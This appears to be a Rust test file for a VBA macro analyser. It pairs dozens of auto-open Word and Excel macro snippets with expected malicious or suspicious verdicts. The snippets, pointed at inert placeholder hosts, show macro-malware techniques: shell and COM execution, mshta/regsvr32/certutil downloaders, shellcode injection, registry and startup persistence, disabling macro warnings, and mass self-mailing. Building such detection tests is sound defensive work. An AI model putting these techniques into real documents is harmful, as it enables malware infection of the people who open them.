//! Each kind of act, with one start: the document or workbook is opened.
//!
//! Rows are named as in the list of kinds: X01 to X26 execute, D01 to D21 fetch, write, stay, lower
//! protection or look round.

use macrosift::Verdict::{Macro, Malicious, Suspicious};

use crate::sketch::Expect::{AtLeast, Is};
use crate::sketch::Office::{Excel, Word};
use crate::sketch::{Expect, Office, Wrong, inputs};

/// An act: row, program, declarations, statements, verdict.
type Act = (&'static str, Office, &'static str, &'static str, Expect);

const BLOCK: Expect = Is(Malicious);
const HOLD: Expect = AtLeast(Suspicious);
const PASS: Expect = Is(Macro);

const SCRIPT_HOST: &str = "'# reference IWshRuntimeLibrary *\\G{F935DC20-1CF0-11D0-ADB9-00C04FD58A0B}#1.0#0#C:\\Windows\\System32\\wshom.ocx#Windows Script Host Object Model\n";
const XML: &str = "'# reference MSXML2 *\\G{F5078F18-C551-11D3-89B9-0000F81FE221}#6.0#0#C:\\Windows\\System32\\msxml6.dll#Microsoft XML, v6.0\n";
const WMI: &str = "'# reference WbemScripting *\\G{565783C6-CB41-11D1-8B02-00600806D9B6}#1.2#0#C:\\Windows\\System32\\wbem\\wbemdisp.tlb#Microsoft WMI Scripting V1.2 Library\n";

const EXECUTION: &[Act] = &[
    (
        "X01",
        Word,
        "",
        "Shell \"inert-test.invalid\", vbHide",
        BLOCK,
    ),
    (
        "X01 qualified",
        Word,
        "",
        "VBA.Shell \"inert-test.invalid\"",
        BLOCK,
    ),
    (
        "X01 of its module",
        Word,
        "",
        "x = Interaction.Shell(\"inert-test.invalid\", 0)",
        BLOCK,
    ),
    (
        "X01 in brackets",
        Word,
        "",
        "[Shell] \"inert-test.invalid\"",
        BLOCK,
    ),
    (
        "X01 with Call",
        Word,
        "",
        "Call VBA.Interaction.Shell(\"inert-test.invalid\")",
        BLOCK,
    ),
    (
        "X02 Run",
        Word,
        "",
        "CreateObject(\"WScript.Shell\").Run \"inert-test.invalid\", 0",
        BLOCK,
    ),
    (
        "X02 Exec",
        Word,
        "",
        "Set s = CreateObject(\"WScript.Shell\")\ns.Exec \"inert-test.invalid\"",
        BLOCK,
    ),
    (
        "X02 versioned",
        Word,
        "",
        "With VBA.CreateObject(\"wscript.shell.1\")\n.Run (\"inert-test.invalid\")\nEnd With",
        BLOCK,
    ),
    (
        "X03",
        Word,
        SCRIPT_HOST,
        "Dim s As New WshShell\ns.Run \"inert-test.invalid\"",
        BLOCK,
    ),
    (
        "X03 qualified",
        Word,
        SCRIPT_HOST,
        "Dim s As IWshRuntimeLibrary.WshShell\nSet s = New IWshRuntimeLibrary.WshShell\ns.Exec \"inert-test.invalid\"",
        BLOCK,
    ),
    (
        "X04",
        Word,
        "",
        "CreateObject(\"Shell.Application\").ShellExecute \"inert-test.invalid\"",
        BLOCK,
    ),
    (
        "X04 by number",
        Word,
        "",
        "GetObject(\"new:{13709620-C279-11CE-A49E-444553540000}\").ShellExecute \"inert-test.invalid\"",
        BLOCK,
    ),
    (
        "X04 windows",
        Word,
        "",
        "GetObject(\"new:9BA05972-F6A8-11CF-A442-00A0C90A8F39\").Item.Document.Application.ShellExecute \"inert-test.invalid\"",
        BLOCK,
    ),
    (
        "X04 console",
        Word,
        "",
        "Set m = CreateObject(\"MMC20.Application\")\nm.Document.ActiveView.ExecuteShellCommand \"inert-test.invalid\", \"\", \"\", \"7\"",
        BLOCK,
    ),
    (
        "X05",
        Word,
        "",
        "GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\").Create \"inert-test.invalid\", Null, Null, p",
        BLOCK,
    ),
    (
        "X05 in steps",
        Word,
        "",
        "Set w = GetObject(\"winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2\")\nSet p = w.Get(\"Win32_Process\")\nr = p.Create(\"inert-test.invalid\", Null, Null, i)",
        BLOCK,
    ),
    (
        "X05 early",
        Word,
        WMI,
        "Dim l As New SWbemLocator\nSet s = l.ConnectServer(\".\", \"root\\cimv2\")\ns.Get(\"Win32_Process\").Create \"inert-test.invalid\"",
        BLOCK,
    ),
    (
        "X06",
        Word,
        "",
        "Set w = GetObject(\"winmgmts:Win32_ScheduledJob\")\nw.Create \"inert-test.invalid\", \"********120000.000000-000\", False, , , True, j",
        BLOCK,
    ),
    (
        "X06 installer",
        Word,
        "",
        "GetObject(\"winmgmts:Win32_Product\").Install \"https://example.invalid/inert.msi\"",
        HOLD,
    ),
    (
        "X07 mshta",
        Word,
        "",
        "Shell \"mshta https://example.invalid/inert.hta\"",
        BLOCK,
    ),
    (
        "X07 regsvr32",
        Word,
        "",
        "Shell \"regsvr32 /s /n /u /i:https://example.invalid/inert.sct scrobj.dll\"",
        BLOCK,
    ),
    (
        "X07 rundll32",
        Word,
        "",
        "CreateObject(\"WScript.Shell\").Run \"rundll32 inert.dll,Inert\"",
        BLOCK,
    ),
    (
        "X07 msiexec",
        Word,
        "",
        "Shell \"msiexec /q /i https://example.invalid/inert.msi\"",
        BLOCK,
    ),
    (
        "X08",
        Word,
        "",
        "Shell \"powershell -w hidden -e aQBuAGUAcgB0AA==\"",
        BLOCK,
    ),
    (
        "X09",
        Word,
        "",
        "Shell \"cmd /V:ON /c set x=inert&&!x!-test.invalid\"",
        BLOCK,
    ),
    (
        "X10 CreateProcess",
        Word,
        "Private Declare PtrSafe Function CreateProcessA Lib \"kernel32\" (ByVal a As String, ByVal c As String, p As Any, t As Any, ByVal i As Long, ByVal f As Long, e As Any, ByVal d As String, s As Any, r As Any) As Long\n",
        "CreateProcessA vbNullString, \"inert-test.invalid\", 0, 0, 0, 0, 0, vbNullString, 0, 0",
        BLOCK,
    ),
    (
        "X10 WinExec",
        Word,
        "Private Declare PtrSafe Function Begin Lib \"kernel32\" Alias \"WinExec\" (ByVal c As String, ByVal s As Long) As Long\n",
        "Begin \"inert-test.invalid\", 0",
        BLOCK,
    ),
    (
        "X10 ShellExecute",
        Word,
        "Private Declare PtrSafe Function ShellExecute Lib \"shell32.dll\" Alias \"ShellExecuteA\" (ByVal h As LongPtr, ByVal v As String, ByVal f As String, ByVal p As String, ByVal d As String, ByVal s As Long) As LongPtr\n",
        "ShellExecute 0, \"open\", \"inert-test.invalid\", \"\", \"\", 0",
        BLOCK,
    ),
    (
        "X10 by number",
        Word,
        "Private Declare PtrSafe Function q Lib \"shell32\" Alias \"#61\" (ByVal a As LongPtr) As Long\n",
        "q 0",
        HOLD,
    ),
    (
        "X11",
        Word,
        "Private Declare PtrSafe Function VirtualAlloc Lib \"kernel32\" (ByVal a As LongPtr, ByVal n As LongPtr, ByVal t As Long, ByVal p As Long) As LongPtr\nPrivate Declare PtrSafe Sub RtlMoveMemory Lib \"kernel32\" (ByVal d As LongPtr, s As Any, ByVal n As LongPtr)\nPrivate Declare PtrSafe Function CreateThread Lib \"kernel32\" (ByVal a As LongPtr, ByVal s As LongPtr, ByVal f As LongPtr, ByVal p As LongPtr, ByVal c As Long, i As Long) As LongPtr\n",
        "Dim b(4) As Byte\nm = VirtualAlloc(0, 5, &H3000, &H40)\nRtlMoveMemory m, b(0), 5\nCreateThread 0, 0, m, 0, 0, 0",
        BLOCK,
    ),
    (
        "X12",
        Word,
        "Private Declare PtrSafe Function HeapAlloc Lib \"kernel32\" (ByVal h As LongPtr, ByVal f As Long, ByVal n As LongPtr) As LongPtr\nPrivate Declare PtrSafe Function Put2 Lib \"kernel32\" Alias \"WriteProcessMemory\" (ByVal p As LongPtr, ByVal a As LongPtr, ByVal b As String, ByVal n As LongPtr, w As LongPtr) As Long\nPrivate Declare PtrSafe Function EnumSystemLanguageGroupsA Lib \"kernel32\" (ByVal f As LongPtr, ByVal l As Long, ByVal p As LongPtr) As Long\n",
        "m = HeapAlloc(0, 0, 5)\nPut2 -1, m, \"inert\", 5, w\nEnumSystemLanguageGroupsA m, 1, 0",
        BLOCK,
    ),
    (
        "X13",
        Word,
        "Private Declare PtrSafe Function DispCallFunc Lib \"oleaut32\" (ByVal i As LongPtr, ByVal o As LongPtr, ByVal c As Long, ByVal r As Integer, ByVal n As Long, t As Integer, p As LongPtr, v As Variant) As Long\n",
        "DispCallFunc 0, n, 4, vbLong, 0, 0, 0, v",
        HOLD,
    ),
    (
        "X14",
        Word,
        "Private Declare PtrSafe Function Inert Lib \"C:\\Users\\Public\\inert.dll\" () As Long\n",
        "Inert",
        HOLD,
    ),
    (
        "X15",
        Word,
        "",
        "c = DDEInitiate(\"cmd\", \"/c inert-test.invalid\")\nDDEExecute c, \"inert\"",
        BLOCK,
    ),
    (
        "X16 library",
        Word,
        "",
        "Set x = CreateObject(\"Excel.Application\")\nx.RegisterXLL \"https://example.invalid/inert.xll\"",
        BLOCK,
    ),
    (
        "X16 channel",
        Word,
        "",
        "Set x = CreateObject(\"Excel.Application\")\nx.DDEInitiate \"cmd\", \"/c inert-test.invalid\"",
        BLOCK,
    ),
    (
        "X17 engine",
        Word,
        "",
        "Set c = CreateObject(\"MSScriptControl.ScriptControl\")\nc.Language = \"JScript\"\nc.Eval \"inert()\"",
        BLOCK,
    ),
    (
        "X17 page",
        Word,
        "",
        "Set h = CreateObject(\"htmlfile\")\nh.parentWindow.execScript \"inert()\", \"JScript\"",
        BLOCK,
    ),
    (
        "X17 style sheet",
        Word,
        "",
        "Set x = CreateObject(\"MSXML2.DOMDocument\")\nx.loadXML \"<xsl:stylesheet xmlns:ms='urn:schemas-microsoft-com:xslt'><ms:script language='JScript'>inert()</ms:script></xsl:stylesheet>\"\nx.transformNode x",
        BLOCK,
    ),
    (
        "X18",
        Word,
        "",
        "Set t = CreateObject(\"Schedule.Service\")\nt.Connect\nSet d = t.NewTask(0)\nd.Actions.Create(0).Path = \"inert-test.invalid\"\nt.GetFolder(\"\\\").RegisterTaskDefinition \"inert\", d, 6, , , 3",
        BLOCK,
    ),
    (
        "X18 command",
        Word,
        "",
        "Shell \"schtasks /create /tn inert /tr inert-test.invalid /sc minute\"",
        BLOCK,
    ),
    (
        "X19",
        Excel,
        "",
        "ExecuteExcel4Macro \"EXEC(\"\"inert-test.invalid\"\")\"",
        BLOCK,
    ),
    (
        "X19 pieces",
        Excel,
        "",
        "Application.ExecuteExcel4Macro \"CA\" & \"LL(\"\"Shell32\"\",\"\"ShellExecuteA\"\",\"\"JJCCCCJ\"\",0,\"\"open\"\",\"\"inert-test.invalid\"\",\"\"\"\",0,0)\"",
        BLOCK,
    ),
    (
        "X19 formula",
        Excel,
        "",
        "Excel4MacroSheets.Add\nRange(\"A1\").Formula = \"=EXEC(\"\"inert-test.invalid\"\")\"\nApplication.Run \"Macro1!A1\"",
        HOLD,
    ),
    (
        "X20 elsewhere",
        Excel,
        "",
        "Application.Run \"'https://example.invalid/inert.xlsm'!Go\"",
        HOLD,
    ),
    (
        "X20 library",
        Excel,
        "",
        "Application.RegisterXLL \"C:\\Users\\Public\\inert.xll\"",
        BLOCK,
    ),
    (
        "X20 add-in",
        Excel,
        "",
        "AddIns.Add(\"https://example.invalid/inert.xlam\").Installed = True",
        HOLD,
    ),
    (
        "X21 method by name",
        Word,
        "",
        "CallByName CreateObject(\"WScript.Shell\"), \"Run\", VbMethod, \"inert-test.invalid\"",
        BLOCK,
    ),
    (
        "X21 unknown",
        Excel,
        "",
        "Application.Run StrReverse(Range(\"A1\")) & Chr(Range(\"A2\")), Range(\"A3\").Value",
        HOLD,
    ),
    (
        "X22 script",
        Word,
        "",
        "GetObject \"script:https://example.invalid/inert.sct\"",
        BLOCK,
    ),
    (
        "X22 by number",
        Word,
        "",
        "GetObject(\"new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}\").Run \"inert-test.invalid\"",
        BLOCK,
    ),
    (
        "X23 browser",
        Word,
        "",
        "Set i = CreateObject(\"InternetExplorer.Application\")\ni.Navigate \"https://example.invalid/inert\"",
        HOLD,
    ),
    (
        "X23 keys",
        Word,
        "",
        "SendKeys \"^{ESC}\"\nSendKeys \"inert-test.invalid{ENTER}\", True",
        HOLD,
    ),
    (
        "X24 address",
        Word,
        "",
        "ThisDocument.FollowHyperlink \"https://example.invalid/inert.exe\"",
        HOLD,
    ),
    (
        "X24 file",
        Word,
        "",
        "ThisDocument.FollowHyperlink \"C:\\Users\\Public\\inert.exe\"",
        HOLD,
    ),
    (
        "X25 text",
        Excel,
        "",
        "ThisWorkbook.VBProject.VBComponents.Add(1).CodeModule.AddFromString Range(\"A1\").Value",
        HOLD,
    ),
    (
        "X25 file",
        Excel,
        "",
        "ThisWorkbook.VBProject.VBComponents.Import Environ(\"TEMP\") & \"\\inert.bas\"",
        HOLD,
    ),
    (
        "X26 old",
        Word,
        "",
        "MacScript \"do shell script \"\"inert-test.invalid\"\"\"",
        BLOCK,
    ),
    (
        "X26 new",
        Excel,
        "",
        "AppleScriptTask \"inert.scpt\", \"inert\", \"inert\"",
        HOLD,
    ),
    (
        "X26 library",
        Word,
        "#If Mac Then\nPrivate Declare PtrSafe Function system Lib \"libc.dylib\" (ByVal c As String) As Long\n#End If\n",
        "system \"inert-test.invalid\"",
        BLOCK,
    ),
];

const URLMON: &str = "Private Declare PtrSafe Function URLDownloadToFileA Lib \"urlmon\" (ByVal c As LongPtr, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal b As LongPtr) As Long\n";

const OTHER: &[Act] = &[
    (
        "D01",
        Word,
        URLMON,
        "URLDownloadToFileA 0, \"https://example.invalid/inert.exe\", Environ(\"TEMP\") & \"\\inert.exe\", 0, 0",
        BLOCK,
    ),
    (
        "D01 by number",
        Word,
        "Private Declare PtrSafe Function z Lib \"urlmon\" Alias \"#172\" (ByVal c As LongPtr, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal b As LongPtr) As Long\n",
        "z 0, \"https://example.invalid/inert.exe\", \"inert.exe\", 0, 0",
        HOLD,
    ),
    (
        "D02 into cells",
        Excel,
        "",
        "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"https://example.invalid/rates\", False\nh.send\nRange(\"A1\").Value = h.responseText",
        Is(Suspicious),
    ),
    (
        "D02 early, into a file",
        Word,
        XML,
        "Dim h As New MSXML2.XMLHTTP60, b() As Byte\nh.Open \"GET\", \"https://example.invalid/inert.exe\", False\nh.send\nb = h.responseBody\nOpen \"inert.exe\" For Binary As #1\nPut #1, , b\nClose #1",
        BLOCK,
    ),
    (
        "D03",
        Word,
        "Private Declare PtrSafe Function InternetOpenA Lib \"wininet\" (ByVal a As String, ByVal t As Long, ByVal p As String, ByVal b As String, ByVal f As Long) As LongPtr\nPrivate Declare PtrSafe Function InternetOpenUrlA Lib \"wininet\" (ByVal i As LongPtr, ByVal u As String, ByVal h As String, ByVal l As Long, ByVal f As Long, ByVal c As LongPtr) As LongPtr\n",
        "InternetOpenUrlA InternetOpenA(\"\", 0, \"\", \"\", 0), \"https://example.invalid/inert\", \"\", 0, 0, 0",
        HOLD,
    ),
    (
        "D04",
        Excel,
        "",
        "Workbooks.Open \"https://example.invalid/inert.xlsm\"",
        HOLD,
    ),
    (
        "D04 in Word",
        Word,
        "",
        "Documents.Add \"https://example.invalid/inert.dotm\"",
        HOLD,
    ),
    (
        "D05",
        Excel,
        "",
        "With ActiveSheet.QueryTables.Add(\"URL;https://example.invalid/rates\", Range(\"A1\"))\n.Refresh False\nEnd With",
        Is(Suspicious),
    ),
    (
        "D06",
        Word,
        "",
        "Shell \"certutil -urlcache -split -f https://example.invalid/inert.exe inert.exe\"",
        BLOCK,
    ),
    (
        "D06 transfer",
        Word,
        "",
        "CreateObject(\"WScript.Shell\").Run \"bitsadmin /transfer inert https://example.invalid/inert.exe C:\\inert.exe\", 0",
        BLOCK,
    ),
    (
        "D07",
        Word,
        "",
        "CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\VBAWarnings\", 1, \"REG_DWORD\"",
        HOLD,
    ),
    (
        "D07 pieces",
        Word,
        "",
        "k = \"HKCU\\Software\\Microsoft\\Office\\\" & Application.Version & \"\\Word\\Secu\" & \"rity\\Access\" & \"VBOM\"\nCreateObject(\"WScript.Shell\").RegWrite k, 1, \"REG_DWORD\"",
        HOLD,
    ),
    (
        "D08",
        Word,
        "",
        "Open \"\\\\192.0.2.1@SSL@443\\DavWWWRoot\\inert.txt\" For Input As #1",
        HOLD,
    ),
    (
        "D09",
        Word,
        "",
        "Dim b() As Byte\nb = StrConv(\"inert\", vbFromUnicode)\nOpen Environ(\"TEMP\") & \"\\inert.exe\" For Binary As #1\nPut #1, , b\nClose #1",
        HOLD,
    ),
    (
        "D10",
        Word,
        "",
        "Open Environ(\"TEMP\") & \"\\inert.vbs\" For Output As #1\nPrint #1, ActiveDocument.Range.Text\nClose #1",
        HOLD,
    ),
    (
        "D10 and started",
        Word,
        "",
        "Open Environ(\"TEMP\") & \"\\inert.vbs\" For Output As #1\nPrint #1, ActiveDocument.Range.Text\nClose #1\nShell \"wscript \" & Environ(\"TEMP\") & \"\\inert.vbs\"",
        BLOCK,
    ),
    (
        "D11 Excel",
        Excel,
        "",
        "ThisWorkbook.SaveCopyAs Application.StartupPath & \"\\inert.xlsm\"",
        HOLD,
    ),
    (
        "D11 key",
        Word,
        "",
        "CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\inert\", \"inert-test.invalid\"",
        HOLD,
    ),
    (
        "D11 shortcut",
        Word,
        "",
        "Set s = CreateObject(\"WScript.Shell\")\nWith s.CreateShortcut(s.SpecialFolders(\"Startup\") & \"\\inert.lnk\")\n.TargetPath = \"inert-test.invalid\"\n.Save\nEnd With",
        HOLD,
    ),
    (
        "D12",
        Word,
        "",
        "Application.OrganizerCopy ThisDocument.FullName, NormalTemplate.FullName, \"Module1\", wdOrganizerObjectProjectItems",
        HOLD,
    ),
    (
        "D13",
        Word,
        "",
        "CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Office test\\Special\\Perf\\\", \"C:\\Users\\Public\\inert.dll\"",
        HOLD,
    ),
    (
        "D14 hidden sheet",
        Excel,
        "",
        "Application.DisplayAlerts = False\nSheets(2).Visible = xlSheetVeryHidden",
        PASS,
    ),
    (
        "D14 own module",
        Excel,
        "",
        "With ThisWorkbook.VBProject.VBComponents\n.Remove .Item(\"Module1\")\nEnd With",
        HOLD,
    ),
    (
        "D15",
        Word,
        "",
        "MsgBox \"Word experienced an error trying to open the file.\", vbCritical",
        PASS,
    ),
    (
        "D16",
        Word,
        "",
        "If Application.RecentFiles.Count < 3 Then Exit Sub\nMsgBox \"Welcome\"",
        PASS,
    ),
    (
        "D17",
        Excel,
        "",
        "If Application.International(xlCountrySetting) <> 81 Then MsgBox \"Japan only\"",
        PASS,
    ),
    (
        "D18",
        Excel,
        "",
        "For i = 1 To 20\ns = s & Chr(Cells(i, 1).Value Xor Cells(1, 2).Value)\nNext\nCreateObject(s).Run Cells(30, 1).Value",
        HOLD,
    ),
    (
        "D18 started",
        Excel,
        "",
        "For i = 1 To 20\ns = s & Chr(Cells(i, 1).Value Xor Cells(1, 2).Value)\nNext\nShell s",
        BLOCK,
    ),
    (
        "D19",
        Excel,
        "",
        "Application.Wait Now + TimeValue(\"00:00:03\")\nRange(\"A1\").Value = Timer",
        PASS,
    ),
    (
        "D20",
        Word,
        "",
        "Set o = CreateObject(\"Outlook.Application\")\nFor Each a In o.Session.GetDefaultFolder(10).Items\nWith o.CreateItem(0)\n.To = a.Email1Address\n.Attachments.Add ThisDocument.FullName\n.Send\nEnd With\nNext",
        HOLD,
    ),
    (
        "D21",
        Word,
        "",
        "f = Dir(\"C:\\inert\\*.doc\")\nDo While f <> \"\"\nKill \"C:\\inert\\\" & f\nf = Dir\nLoop",
        HOLD,
    ),
];

fn check(acts: &[Act]) {
    let mut wrong = Wrong::default();
    for &(row, office, declarations, statements, expect) in acts {
        let (module, start) = match office {
            Office::Word => ("document ThisDocument", "Document_Open"),
            _ => ("workbook ThisWorkbook", "Workbook_Open"),
        };
        let statements = statements.replace('\n', "\n    ");
        // A reference comes before the modules, a declaration into one.
        let (reference, declarations) = if declarations.starts_with("'# ") {
            (declarations, "")
        } else {
            ("", declarations)
        };
        let text = format!(
            "{reference}'# {module}\n{declarations}Private Sub {start}()\n    \
             If Now > 0 Then Exit Sub\n    {statements}\nEnd Sub\n"
        );
        for input in inputs(office, &text) {
            wrong.verdict(row, &input, expect);
        }
    }
    wrong.none();
}

#[test]
fn acts_that_execute() {
    check(EXECUTION);
}

#[test]
fn acts_that_fetch_write_and_stay() {
    check(OTHER);
}
